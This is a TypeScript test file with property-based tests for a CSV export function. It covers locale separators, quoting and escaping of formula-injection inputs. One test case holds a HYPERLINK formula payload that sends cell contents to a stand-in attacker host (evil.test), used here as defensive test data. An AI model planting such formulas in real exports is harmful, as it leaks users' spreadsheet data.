import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type Cell, toCsv } from "../../../web/app/admin/exports/download-button.tsx";
import { readCsv } from "./read-csv.ts";

const BOM = "\uFEFF";

it("suits a French Excel in French, an English one in English", () => {
	const rows: Cell[][] = [["novembre", 12.5, -3, null]];
	expect(toCsv(["Mois", "Taux", "Écart", "Rien"], rows, "fr")).toBe(
		`${BOM}Mois;Taux;Écart;Rien\r\nnovembre;12,5;-3;\r\n`,
	);
	expect(toCsv(["Month", "Rate", "Change", "None"], rows, "en")).toBe(
		`${BOM}Month,Rate,Change,None\r\nnovembre,12.5,-3,\r\n`,
	);
});

describe("a text that could run", () => {
	it.each([
		[
			'=HYPERLINK("https://evil.test?"&A1;"Clic")',
			'"\'=HYPERLINK(""https://evil.test?""&A1;""Clic"")"',
		],
		["+33 6", "'+33 6"],
		["-1+1", "'-1+1"],
		["@SUM(A1)", "'@SUM(A1)"],
		["\t=1", '"\'\t=1"'],
		["\r=1", '"\'\r=1"'],
		["  =1+1", "'  =1+1"],
		["＝1+1", "'＝1+1"],
	])("is a text: %j", (name, field) => {
		expect(toCsv(["Client"], [[name]], "fr")).toBe(`${BOM}Client\r\n${field}\r\n`);
	});
});

it.each([
	["a;b", '"a;b"'],
	["a,b", '"a,b"'],
	['dit "oui"', '"dit ""oui"""'],
	["deux\nlignes", '"deux\nlignes"'],
	["l’essai", "l’essai"],
])("quotes %j only where it must", (text, field) => {
	expect(toCsv(["A"], [[text]], "en")).toBe(`${BOM}A\r\n${field}\r\n`);
});

it("leaves non-finite numbers empty", () => {
	expect(toCsv(["A", "B"], [[Number.NaN, Number.POSITIVE_INFINITY]], "fr")).toBe(
		`${BOM}A;B\r\n;\r\n`,
	);
});

/** Any character; the library's own list of them takes a second to make. */
const character = fc
	.integer({ min: 0, max: 0x10_f7_ff })
	.map((n) => String.fromCodePoint(n < 0xd8_00 ? n : n + 0x8_00));

describe.each([
	["fr", ";", ","],
	["en", ",", "."],
] as const)("any table in %s", (language, separator, decimal) => {
	const text = fc.oneof(
		fc.string({ unit: character }),
		fc.string({ unit: fc.constantFrom(..."=+-@\t\r\n\"';, aé1") }),
	);
	const number = fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
	const cell = fc.oneof(text, number, fc.constant(null));
	const table = fc.integer({ min: 1, max: 5 }).chain((width) => {
		const row = fc.array(cell, { minLength: width, maxLength: width });
		const header = fc.array(text, { minLength: width, maxLength: width });
		return fc.record({ header, rows: fc.array(row, { maxLength: 5 }) });
	});

	it("comes back the same, but for the apostrophes", () => {
		fc.assert(
			fc.property(table, ({ header, rows }) => {
				const read = readCsv(toCsv(header, rows, language).slice(1), separator);
				expect(read.length).toBe(rows.length + 1);
				for (const [n, row] of [header, ...rows].entries()) {
					expect(read[n]?.map((field, m) => same(field, row[m] ?? null))).toEqual(
						row.map(() => true),
					);
				}
			}),
		);
	});

	it("holds no text that begins as a formula", () => {
		fc.assert(
			fc.property(table, ({ header, rows }) => {
				const read = readCsv(toCsv(header, rows, language).slice(1), separator);
				const texts = [header, ...rows].flatMap((row, n) =>
					row.flatMap((value, m) => (typeof value === "string" ? [read[n]?.[m] ?? ""] : [])),
				);
				expect(texts.filter((field) => /^\s*[=+\-@]|^[\t\r\n]/.test(field))).toEqual([]);
			}),
		);
	});

	function same(field: string, value: Cell): boolean {
		if (typeof value === "number") return Number(field.replace(decimal, ".")) === value;
		return field === (value ?? "") || field === `'${value}`;
	}
});
